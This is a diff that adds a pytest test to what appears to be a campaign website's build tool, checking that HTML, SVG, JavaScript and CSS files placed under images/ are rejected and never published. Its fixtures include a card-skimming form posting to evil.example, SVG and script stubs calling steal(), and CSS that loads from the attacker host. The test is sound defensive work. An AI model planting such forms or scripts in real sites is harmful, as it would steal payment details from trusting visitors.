@@ -1384,3 +1384,20 @@ def test_a_link_to_another_page_in_a_summary_is_named_and_left_out(tmp_path):
     for page in ("index.html", "actions/index.html", "actions/free-them/index.html"):
         assert "{filename}" not in site.text(page) and 'href="briefings/background/"' not in site.text(page), page
     assert_strict_fails(tmp_path, files)
+
+
+@pytest.mark.parametrize("name, text", [
+    ("images/pay.html", "<form action='https://evil.example/'><input name=card></form><script>steal()</script>"),
+    ("images/chart.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="steal()"><script>steal()</script></svg>'),
+    ("images/app.js", "steal()"),
+    ("images/look.css", "body{background:url(https://evil.example/)}"),
+])
+def test_a_page_or_script_under_images_is_never_served_from_the_site(tmp_path, name, text):
+    # Pelican copied everything under STATIC_PATHS: a page at /images/pay.html ran its script on the campaign's
+    # own address, where a supporter trusts what asks for their card.
+    files = minimal_files() | {name: text}
+    site = build(tmp_path, files)
+    assert messages(site, name, "is not an image the site publishes", "Export it as PNG or JPEG")
+    assert not (site.output / name).exists()
+    assert site.exists("actions/free-them/index.html")
+    assert_strict_fails(tmp_path, files)
